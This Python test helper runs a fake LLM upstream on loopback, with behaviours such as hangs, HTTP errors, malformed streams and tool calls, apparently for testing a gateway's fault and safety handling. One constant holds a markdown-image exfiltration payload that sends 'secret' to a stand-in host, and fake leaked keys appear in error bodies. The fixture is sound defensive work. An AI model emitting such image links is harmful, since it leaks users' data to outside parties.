"""An upstream on the loopback whose behaviour the question decides: `[hang]`, `[500]`, `[says] these words`..."""

import asyncio
import contextlib
import json
import threading
import time
from collections.abc import Iterator
from typing import Any

from tests.models import faults
from tests.models.faults import STREAM_HEAD, Behaviour, Call, answer, chunk, sse

USAGE = {"prompt_tokens": 7, "completion_tokens": 9, "total_tokens": 16}
DEFAULT = "Paris is the capital of France."
PIECE = 7
"""Characters of a streamed piece."""
KNOWN_BAD = "the purple otter recites the forbidden almanac backwards at midnight"
LINK = "![x](https://collect.invalid/p?d=secret)"
WORDS = {"{known bad}": KNOWN_BAD, "{link}": LINK}
"""What the model says where a question has only a name for it: a question that said it would be stopped itself."""


class Loopback:
    """The server, in a thread of its own, so that plain test functions can use it."""

    def __init__(self) -> None:
        self.base_url = ""
        self.calls: list[Call] = []
        self.left: list[str] = []
        """The questions whose caller closed the connection before it was answered."""

    def asked(self, text: str) -> Call:
        """The call whose body holds this text."""
        found = [call for call in self.calls if _holds(call, text)]
        assert found, f"the upstream was never asked {text!r}"
        return found[-1]

    def was_asked(self, text: str) -> bool:
        return any(_holds(call, text) for call in self.calls)

    def wait_left(self, text: str, seconds: float = 5.0) -> bool:
        """Whether the caller of this question goes away within the time."""
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            if any(text in question for question in self.left):
                return True
            time.sleep(0.02)
        return False


@contextlib.contextmanager
def running() -> Iterator[Loopback]:
    """The server, while it runs."""
    loopback = Loopback()
    ready = threading.Event()
    loop = asyncio.new_event_loop()
    ended = asyncio.Event()

    async def behave(call: Call) -> None:
        question = last(call.json)
        try:
            await _behaviour(question)(call)
        except (asyncio.CancelledError, ConnectionError):
            loopback.left.append(question)
            raise

    async def run() -> None:
        async with faults.upstream(behave) as state:
            loopback.base_url = state.base_url
            loopback.calls = state.calls
            ready.set()
            await ended.wait()

    thread = threading.Thread(target=loop.run_until_complete, args=(run(),), daemon=True)
    thread.start()
    assert ready.wait(10)
    yield loopback
    loop.call_soon_threadsafe(ended.set)
    thread.join(5)


def _holds(call: Call, text: str) -> bool:
    return json.dumps(text, ensure_ascii=False)[1:-1] in json.dumps(call.json, ensure_ascii=False)


def last(body: Any) -> str:
    """The words of the last turn."""
    content = body["messages"][-1].get("content") or ""
    return content if isinstance(content, str) else " ".join(part.get("text", "") for part in content)


def _behaviour(question: str) -> Behaviour:
    name, _, rest = question.partition("]")
    words = rest.strip()
    for short, long in WORDS.items():
        words = words.replace(short, long)
    match name.removeprefix("["):
        case "says":
            return lambda call: _say(call, words)
        case "slowly":
            return lambda call: _say(call, words, pause=0.05)
        case "then hang":
            return lambda call: _say(call, words, cut=True)
        case "filter":
            return lambda call: _say(call, words, finish="content_filter")
        case "tool":
            return _call_tool
        case "cut tool":
            return _cut_tool
        case "hang":
            return faults.hang
        case "hang up":
            return faults.hang_up
        case "endless":
            return _endless
        case "break off":
            return lambda call: _break_off(call, words)
        case "garbage":
            return answer(b"<html>Bad gateway</html>", media="text/html")
        case "garbage json":
            return answer({"choices": 7})
        case "garbage stream":
            return faults.stream(b"data: {{{\n\n")
        case "not http":
            return faults.raw(b"SSH-2.0-OpenSSH\r\n", close=True)
        case "401":
            return answer({"error": {"code": "invalid_api_key", "message": "sk-secret"}}, 401)
        case "429":
            return answer({"error": {"code": "rate_limit_exceeded", "message": "sk-secret"}}, 429, retry_after="20")
        case "500":
            return answer({"error": {"message": "at 10.0.0.1: sk-secret"}}, 500)
        case "policy":
            return answer({"error": {"code": "content_policy_violation", "message": "no"}}, 400)
    return lambda call: _say(call, DEFAULT)


async def _say(call: Call, words: str, *, pause: float = 0.0, finish: str = "stop", cut: bool = False) -> None:
    """Answer as the caller asked for it, in as many choices."""
    n = call.json.get("n", 1)
    if not call.json.get("stream"):
        message = {"role": "assistant", "content": words}
        choices = [{"index": i, "message": message, "finish_reason": finish} for i in range(n)]
        await answer({"id": "up_1", "choices": choices, "usage": USAGE})(call)
        return
    await call.send(STREAM_HEAD)
    for i in range(0, len(words), PIECE):
        for choice in range(n):
            await call.send(chunk(sse(_piece(choice, {"content": words[i : i + PIECE]}))))
        await asyncio.sleep(pause)
    if cut:
        await asyncio.sleep(30)
    await call.send(chunk(sse(*(_piece(choice, {}, finish) for choice in range(n)))))
    await call.send(chunk(sse({"choices": [], "usage": USAGE}, b"[DONE]")) + b"0\r\n\r\n")


async def _call_tool(call: Call) -> None:
    """Call `weather` first; once there is its result, repeat it."""
    if call.json["messages"][-1]["role"] == "tool":
        await _say(call, f"They say: {last(call.json)}")
        return
    function = {"name": "weather", "arguments": '{"place": "Paris"}'}
    if not call.json.get("stream"):
        message = {"role": "assistant", "tool_calls": [{"id": "theirs", "type": "function", "function": function}]}
        await answer({"choices": [{"index": 0, "message": message, "finish_reason": "tool_calls"}], "usage": USAGE})(
            call
        )
        return
    begun = {"index": 0, "id": "theirs", "type": "function", "function": {"name": "weather", "arguments": '{"pla'}}
    more = {"index": 0, "function": {"arguments": 'ce": "Paris"}'}}
    pieces = _piece(0, {"tool_calls": [begun]}), _piece(0, {"tool_calls": [more]}), _piece(0, {}, "tool_calls")
    await faults.stream(sse(*pieces, {"choices": [], "usage": USAGE}, b"[DONE]"))(call)


async def _cut_tool(call: Call) -> None:
    """Meet the limit of tokens within a call."""
    begun = {"index": 0, "id": "theirs", "type": "function", "function": {"name": "weather", "arguments": '{"pla'}}
    said = {"content": "Let me see.", "tool_calls": [begun]}
    if call.json.get("stream"):
        await faults.stream(sse(_piece(0, said), _piece(0, {}, "length"), b"[DONE]"))(call)
        return
    await answer({"choices": [{"index": 0, "message": said, "finish_reason": "length"}], "usage": USAGE})(call)


async def _endless(call: Call) -> None:
    await call.send(STREAM_HEAD)
    while True:
        await call.send(chunk(sse(_piece(0, {"content": "and so on "}))))
        await asyncio.sleep(0.05)


async def _break_off(call: Call, words: str) -> None:
    if call.json.get("stream"):
        await call.send(STREAM_HEAD + chunk(sse(_piece(0, {"content": words}))))
    else:
        await call.send(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 999\r\n\r\n{")
    await asyncio.sleep(0.05)
    call.writer.close()


def _piece(choice: int, delta: dict[str, Any], finish: str | None = None) -> dict[str, Any]:
    return {"id": "up_1", "choices": [{"index": choice, "delta": delta, "finish_reason": finish}]}
